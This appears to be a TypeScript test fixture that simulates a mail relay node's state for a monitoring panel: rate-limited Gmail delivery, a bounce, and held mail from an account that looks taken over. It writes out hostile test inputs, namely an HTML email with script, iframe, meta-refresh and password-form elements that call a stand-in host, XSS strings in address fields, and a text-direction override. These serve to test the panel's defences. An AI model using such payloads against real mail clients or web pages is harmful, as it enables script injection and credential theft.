/**
 * One invented Tuesday at 10:52, as a node in memory has it: mail that flows, Google that slows it, an account that looks
 * taken over and is held, and what strangers write into subjects, names and bodies.
 */
import type { WallMs } from "../../src/base/clock.ts";
import type { FlowStep, InForce, LaneRecord, Need, NodeStatus, ProviderRecord } from "../../src/control/api/node-face.ts";
import type { Diagnosis } from "../../src/model/diagnosis.ts";
import type { EventBody } from "../../src/model/event.ts";
import type { MessageKey, SiteKey, SourceName, TenantId } from "../../src/model/ids.ts";
import type { AttemptFacts } from "../../src/model/outcome.ts";
import type { View } from "../../src/model/view.ts";
import { ActingNode, ago } from "./panel-house.ts";

const GOOGLE_LIMITS: Diagnosis = {
  ...{ class: "rate", scope: "ip", provider: "Google", permanent: false, rule: "gmail-unusual-rate-ip", confidence: 0.97 },
  cause: "Google limits mail from this address",
  remedy: { who: "nobody", text: "Nothing to do: it is sent again more slowly.", link: "https://support.google.com/mail/answer/81126" },
};
const NO_MAILBOX: Diagnosis = {
  ...{ class: "badrcpt", scope: "recipient", provider: "Google", permanent: true, rule: "gmail-no-user", confidence: 0.99 },
  cause: "there is no such mailbox",
  remedy: { who: "sender", text: "Check the spelling of the address, or reach the person another way." },
};
const GREETED = "S: 220 mx.google.com ESMTP\nC: EHLO relay.example.net\nS: 250-mx.google.com at your service\nS: 250 STARTTLS\n";

function attempt(host: string, ip: string, said: string): AttemptFacts {
  return {
    ...{ host, ip, stage: "dot", nth: 1, localIp: "198.51.100.7", dialogue: `${GREETED}${said}` },
    times: { dns: 22, connect: 61, tls: 94, mail: 120, data: 228, dot: 1280 },
  };
}

const GMAIL = attempt(
  "gmail-smtp-in.l.google.com",
  "142.250.110.27",
  "C: MAIL FROM:<billing@hotel-lux.example>\nS: 421 4.7.28 Gmail has detected an unusual rate of mail",
);
const SLOWED = "4.7.28 Gmail has detected an unusual rate of mail originating from your IP address [198.51.100.7]";

const TAKEN_OVER = "looks taken over: 13 of 25 had no mailbox";

/** Leads to this machine in the tests' browser, so that it can be seen who goes there. */
const ELSEWHERE = "http://elsewhere.example";

/** What a thief, a joker or a broken program may send; it asks `port` for all that a page can ask for. */
function hostileHtml(port: number): string {
  const there = `${ELSEWHERE}:${port}`;
  return `<html><head><base href="${there}/"><meta http-equiv="refresh" content="1;url=${there}/refreshed">
<link rel="stylesheet" href="${there}/a.css"><link rel="preconnect" href="${there}"><link rel="prefetch" href="${there}/later">
<style>@import "${there}/x.css"; p { background: url(${there}/bg.png) }</style></head>
<body onload="parent.document.title='owned'"><h1>Your parcel could not be delivered</h1>
<img src="${there}/pixel.png" onerror="top.stolen=1"><video src="${there}/v.mp4" autoplay></video><object data="${there}/o"></object>
<script>top.stolen = 1; document.title = "owned"; fetch("${there}/run")</script><iframe src="${there}/frame"></iframe>
<form action="${there}/steal"><input name="password"><button>Confirm</button></form>
<a href="javascript:top.stolen=1">Track</a> <a href="${there}/click" target="_top">Pay here</a> <p>Pay the fee today.</p></body></html>`;
}

/** Text that is harmless, HTML that is not. */
export function hostileMail(port: number): Uint8Array {
  return new TextEncoder().encode(
    [
      "From: Parcel service <shop3@shop-mueller.example>",
      "To: somebody@example.org",
      "Subject: Your parcel =?utf-8?B?4oCu?=could not be delivered",
      "Date: Tue, 3 Mar 2026 10:31:02 +0100",
      "MIME-Version: 1.0",
      'Content-Type: multipart/alternative; boundary="b"',
      "",
      "--b",
      "Content-Type: text/plain; charset=utf-8",
      "",
      "Your parcel could not be delivered. Pay the fee at http://parcel-upd.example/x?id=1 today.",
      "--b",
      "Content-Type: text/html; charset=utf-8",
      "",
      hostileHtml(port),
      "--b--",
      "",
    ].join("\r\n"),
  );
}

const WORKSPACE = "a-customer-of-google-workspace.example" as SiteKey;

/** What is told of it, besides the deliveries. */
export class TuesdayNode extends ActingNode {
  readonly needs: Need[] = [];
  readonly inForce: InForce[] = [];
  readonly providers: ProviderRecord[] = [];

  override async status(view: View): Promise<NodeStatus> {
    return { ...(await super.status(view)), needs: view.sees === "all" ? this.needs : [] };
  }

  /** One that Google slowed, one that nothing holds, and one that leaves by another address. */
  override async lanes(): Promise<readonly LaneRecord[]> {
    const [gmail] = await super.lanes();
    if (gmail === undefined) return [];
    const free = { state: "open" as const, provider: "google", connections: 2, queued: 3 };
    return [
      { ...gmail, connections: 0, queued: 3899, since: ago(50), perMinute: 40 },
      { ...free, egress: "default", site: WORKSPACE },
      { ...free, egress: "out2", site: `${WORKSPACE}|out2` as SiteKey, queued: 0 },
    ];
  }

  override readonly figures = {
    now: async (view: View) => ({
      lastHour: (await this.status(view)).counts,
      latency: { p50Ms: 1100, p99Ms: 1_860_000, n: 68_950 },
      steps: hourOfSteps(),
      inForce: view.sees === "all" ? this.inForce : [],
      providers: view.sees === "all" ? this.providers : [],
    }),
    providers: async () => this.providers,
    provider: async (key: string) => this.#provider(key),
  };

  #provider(key: string) {
    const provider = this.providers.find((one) => one.key === key);
    if (provider === undefined) return undefined;
    const sites = ["gmail.com", WORKSPACE].map((site, index) => ({
      ...{ egress: "default", site: site as SiteKey, state: index === 0 ? ("closed" as const) : ("open" as const), connections: 2 },
      ...{ queued: index === 0 ? 12 : 0, hosts: ["gmail-smtp-in.l.google.com", "alt1.gmail-smtp-in.l.google.com"] },
      ...(index === 0 ? { why: SLOWED, until: ago(-2), oldestAt: ago(50) } : {}),
    }));
    const replies = [
      { text: `421 ${SLOWED}`, class: "rate" as const, count: 3902, lastAt: ago(1), remedy: GOOGLE_LIMITS.remedy.text },
      {
        text: "550 5.1.1 The email account that you tried to reach does not exist",
        class: "badrcpt" as const,
        count: 19,
        lastAt: ago(4),
        remedy: NO_MAILBOX.remedy.text,
      },
    ];
    return { provider, sites, replies, steps: hourOfSteps() };
  }
}

function hourOfSteps(): readonly FlowStep[] {
  return Array.from({ length: 60 }, (_, minute) => ({
    at: ago(60 - minute),
    accepted: 900 + Math.round(600 * Math.sin(minute / 9) ** 2),
    settled: 800 + Math.round(500 * Math.sin(minute / 9 + 0.3) ** 2),
  }));
}

export interface Tuesday {
  readonly node: TuesdayNode;
  /** By what they show. */
  readonly late: MessageKey;
  readonly delivered: MessageKey;
  readonly bounced: MessageKey;
  readonly many: MessageKey;
  readonly held: readonly MessageKey[];
}

/** @param rows of ordinary delivered mail besides the told ones. */
export function tuesday(rows = 60): Tuesday {
  const node = new TuesdayNode();
  for (let i = rows; i > 0; i--) addOrdinary(node, i);
  const late = addLate(node);
  const bounced = addBounced(node);
  const many = addMany(node);
  const held = Array.from({ length: 32 }, (_, i) => addHeld(node, i));
  const delivered = addDelivered(node, "anna@kanzlei-m.example", "k.roth@gmail.com", 3, 1900);
  node.contentOf = async function* () {
    yield hostileMail(9);
  };
  addSurroundings(node);
  return { node, late, delivered, bounced, many, held };
}

function addDelivered(node: TuesdayNode, from: string, to: string, minutes: number, tookMs: number): MessageKey {
  const domain = from.slice(from.indexOf("@") + 1);
  const acceptedAt = ago(minutes);
  const body: EventBody = {
    ...{ kind: "delivered", reply: { code: 250, enhanced: "2.0.0", text: "OK 1772531339 a640c23a62f3a-b5b" }, possiblyTwice: false },
    attempt: attempt("gmail-smtp-in.l.google.com", "142.250.110.27", "C: (message)\nS: 250 2.0.0 OK 1772531339 a640c23a62f3a-b5b"),
  };
  return node.add({
    ...{ acceptedAt, from, sender: `wp@${domain.split(".")[0]}`, source: "srv12", messageId: `<${minutes}.${tookMs}@${domain}>` },
    to: [{ address: to, state: "settled" }],
    events: [{ at: (acceptedAt + tookMs) as WallMs, rcpt: 0, body }],
  });
}

const PEOPLE = ["k.roth@gmail.com", "m.stein@outlook.com", "office@bank-y.example", "verein@posteo.de", "lena@web.de"];

function addOrdinary(node: TuesdayNode, i: number): void {
  addDelivered(node, `info@shop${i % 17}.example`, PEOPLE[i % PEOPLE.length] ?? "a@b.example", 4 + i * 0.4, 600 + (i % 40) * 77);
}

function addLate(node: TuesdayNode): MessageKey {
  const deferred = (minutes: number, attempts: number, due: number): { at: WallMs; rcpt: number; body: EventBody } => ({
    ...{ at: ago(minutes), rcpt: 0 },
    body: {
      ...{ kind: "deferred", attempt: GMAIL, reply: { code: 421, enhanced: "4.7.28", text: SLOWED.slice(7) }, diagnosis: GOOGLE_LIMITS },
      ...{ dueAt: ago(due), attempts, counted: true },
    },
  });
  return node.add({
    ...{ acceptedAt: ago(42), from: "billing@hotel-lux.example", sender: "wp@hotel-lux", source: "srv12", tenant: "hotel-lux" },
    messageId: "<invoice-4711@hotel-lux.example>",
    to: [{ address: "j.doe@gmail.com", state: "queued", why: `421 ${SLOWED}`, due: ago(-1) }],
    events: [deferred(41.9, 1, 34), deferred(34, 2, -1)],
  });
}

function addBounced(node: TuesdayNode): MessageKey {
  const acceptedAt = ago(5);
  const reply = { code: 550, enhanced: "5.1.1", text: "The email account that you tried to reach does not exist." };
  return node.add({
    ...{ acceptedAt, from: "info@shopking.example", sender: "news@shopking", source: "srv3", messageId: "<n1@shopking.example>" },
    to: [{ address: "bbo@gmail.com", state: "settled" }],
    events: [
      {
        ...{ at: (acceptedAt + 900) as WallMs, rcpt: 0 },
        body: {
          ...{ kind: "bounced", attempt: GMAIL, reply, diagnosis: NO_MAILBOX, why: "550 5.1.1 no such mailbox", dsn: "sent" },
          by: { kind: "dispatch", id: "gmail-no-user" },
        },
      },
    ],
  });
}

/** Names and addresses that try to be something else. */
function addMany(node: TuesdayNode): MessageKey {
  return node.add({
    ...{ acceptedAt: ago(20), from: "club@verein-x.example", sender: "<b>club</b>\u202e@verein-x", source: "srv7" },
    to: [
      { address: '"><img src=x onerror=top.stolen=1>@example.org', state: "queued", why: "450 4.2.1 <script>top.stolen=1</script> later" },
      { address: "b@example.org", state: "queued", why: "450 4.2.1 mailbox busy" },
      { address: "c@example.org", state: "held", why: "look-alike of held mail" },
    ],
  });
}

function addHeld(node: TuesdayNode, i: number): MessageKey {
  return node.add({
    ...{
      acceptedAt: ago(21 - i * 0.1),
      from: "shop3@shop-mueller.example",
      sender: "shop3@srv7",
      source: "srv7",
      tenant: "mueller-hosting",
    },
    to: [{ address: `person${i}@example.org`, state: "held", why: TAKEN_OVER }],
    events: [
      { at: ago(20.9 - i * 0.1), rcpt: 0, body: { kind: "held", why: TAKEN_OVER, by: { kind: "operator", id: "ann" }, action: 101 } },
    ],
  });
}

function addSurroundings(node: TuesdayNode): void {
  node.known.push(
    {
      kind: "range",
      name: "srv12" as SourceName,
      tenant: "hotel-lux" as TenantId,
      createdAt: ago(90_000),
      fixed: true,
      cidrs: ["192.0.2.12/32"],
      seenAt: ago(0.1),
    },
    {
      kind: "credential",
      name: "srv7" as SourceName,
      tenant: "mueller-hosting" as TenantId,
      createdAt: ago(60_000),
      fixed: false,
      login: "srv7",
      seenAt: ago(19),
    },
    { kind: "credential", name: "app" as SourceName, tenant: "default" as TenantId, createdAt: ago(60), fixed: false, login: "app" },
  );
  node.needs.push(
    {
      code: "held",
      line: "33 deliveries are held in 2 groups, the oldest accepted 21 min ago: looks taken over.",
      fix: "fairlead holds lists them; then, for each, fairlead release ID, fairlead queue bounce ID (its sender is told), or fairlead discard ID.",
      link: "#/holds",
    },
    {
      code: "disk-full",
      line: "The disk is nearly full (0.4 GB left): no mail is taken, what waits is still delivered.",
      fix: "Make room where the data folder is; mail is taken again by itself.",
    },
  );
  node.inForce.push(
    {
      ...{
        id: "lane-gmail",
        what: "Google ≤ 40/min",
        on: "198.51.100.7",
        cause: `421 ${SLOWED.slice(0, 60)}`,
        by: "dispatch",
        since: ago(50),
      },
      then: "tried again with one message",
    },
    {
      ...{
        id: "action-101",
        what: "held",
        on: "shop3@srv7",
        cause: "looks taken over: 13 of 25 had no mailbox",
        link: "#/holds",
        by: "ann",
      },
      ...{ since: ago(21), until: ago(-7 * 1440), then: "discarded", undo: "101" },
    },
  );
  node.providers.push(
    {
      ...{
        key: "google",
        provider: "Google",
        queued: 3902,
        oldestAt: ago(50),
        deliveredPerHour: 2400,
        answers: { ok: 910, later: 88, no: 2 },
      },
      ...{ limit: "40/min, 2 connections", why: `421 ${SLOWED.slice(0, 60)}`, opensAt: ago(-2), sites: 212 },
    },
    {
      key: "microsoft",
      provider: "Microsoft 365",
      queued: 0,
      deliveredPerHour: 31_000,
      answers: { ok: 7810, later: 12, no: 30 },
      sites: 800,
    },
    {
      key: "example.org",
      provider: "example.org",
      queued: 2,
      oldestAt: ago(20),
      deliveredPerHour: 0,
      answers: { ok: 0, later: 2, no: 0 },
      sites: 1,
    },
  );
}
